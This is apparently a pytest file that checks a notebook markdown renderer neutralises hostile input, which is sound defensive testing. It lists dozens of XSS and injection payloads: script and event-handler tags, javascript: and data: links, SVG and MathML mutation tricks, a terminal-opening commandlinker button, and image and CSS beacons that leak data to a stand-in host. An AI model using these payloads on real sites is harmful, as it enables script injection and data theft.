"""The renderer: what it shows, and that hostile text stays inert."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from llamanb.notebook.markdown import LONGEST_RENDERED, render_html, safe_markdown
from llamanb.notebook.reply_view import growing_bundle, reply_bundle

ALLOWED = {"a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "span"}
ALLOWED |= {"strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ALLOWED |= {"div", "details", "summary", "h1", "h2", "h3", "h4", "h5", "h6"}
ALLOWED_ATTRIBUTES = {"href", "title", "start", "style", "target", "rel", "class"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://e.example/leak?d=1'>",
    "<IMG SRC=javascript:alert(1)>",
    "<img srcset='http://e.example/a 1x'>",
    "<picture><source srcset=http://e.example/a><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//e.example/x.swf>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=http://e.example/a.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=http://e.example><input name=q></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<base href=http://e.example/>",
    "<meta http-equiv=refresh content='0;url=http://e.example'>",
    "<link rel=stylesheet href=http://e.example/x.css>",
    "<style>@import 'http://e.example/x.css';</style>",
    "<style>body{background:url(http://e.example)}</style>",
    "<div style='background:url(http://e.example/x)'>x</div>",
    "<p style='position:fixed;inset:0'>overlay</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<x onclick=alert(1)>click</x>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "![leak](http://e.example/leak?d=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![a]['r']\n\n['r']: http://e.example/i.png",
    "![ref][r]\n\n[r]: http://e.example/i.png 'onerror=alert(1)'",
    '![x](http://e.example/"onerror="alert(1))',
    "[![x](http://e.example/i.png)](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://e.example/1)",
    "[x](/api/shutdown)",
    "[x](//e.example/protocol-relative)",
    '[x](http://e.example "title\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "[r]: javascript:alert(1)\n\n[r]",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "$$<img src=x onerror=alert(1)>$$",
    "\\(<script>alert(1)</script>\\)",
    "\\[</p><img src=x onerror=alert(1)>\\]",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "\x1b]8;;http://e.example\x07click\x1b]8;;\x07<script>",
    "\u202e<tpircs>\u202c<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "</div></details><script>alert(1)</script>",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_inert(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    assert collector.tags <= ALLOWED
    for _, name, value in collector.attributes:
        assert name in ALLOWED_ATTRIBUTES
        assert "url(" not in value
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_in_html(text: str) -> None:
    assert_inert(render_html(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_in_a_whole_display(text: str) -> None:
    for style in ("md", "text", "code", "json"):
        bundle = reply_bundle(text, reasoning=text, footer=text, error=text, style=style)
        assert_inert(bundle["text/html"])
    assert_inert(growing_bundle(text, reasoning=text, thinking=text)["text/html"])


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_as_markdown_that_allows_html(text: str) -> None:
    front_end = MarkdownIt("commonmark", {"html": True}).enable("table")
    front_end.validateLink = lambda url: True  # type: ignore[method-assign]  # the worst front end
    assert_inert(front_end.render(safe_markdown(text)))


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("**b** *i* ~~s~~", "<strong>b</strong> <em>i</em> <s>s</s>", id="emphasis"),
        pytest.param("|a|\n|:-:|\n|1|", '<td style="text-align:center">1</td>', id="table"),
        pytest.param("3. x", '<ol start="3">', id="ordered list"),
        pytest.param("[x](https://a.example)", 'href="https://a.example"', id="link"),
        pytest.param("![cat](http://a.example/c.png)", ">[image: cat]</a>", id="image as link"),
        pytest.param("a < b & c", "a &lt; b &amp; c", id="escapes"),
        pytest.param("\\(a_1 * b_2*\\)", "\\(a_1 * b_2*\\)", id="formula untouched"),
        pytest.param("```python\nfor x in y: pass\n```", "keyword-color", id="coloured code"),
        pytest.param(
            "```nolanguage\na<b\n```", "<pre><code>a&lt;b\n</code></pre>", id="plain code"
        ),
    ],
)
def test_markdown_renders(text: str, expected: str) -> None:
    assert expected in render_html(text)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = render_html("[x](https://a.example)")
    assert 'target="_blank"' in html
    assert "noopener" in html
    assert "noreferrer" in html


def test_a_very_long_text_is_preformatted() -> None:
    assert render_html("*a*" * LONGEST_RENDERED).startswith("<pre>")


def test_markdown_twin_keeps_code_blocks_and_ordinary_text() -> None:
    text = "# Title\n\nSome *text*, a < b.\n\n```html\n<b>![x]</b>\n```\n"
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "![" * 30_000, "\\(" * 40_000, "$$" * 40_000, "a*" * 40_000, ">" * 50_000],
)
@pytest.mark.timeout(20)
def test_repetitive_text_renders_in_bounded_time(text: str) -> None:
    assert render_html(text)
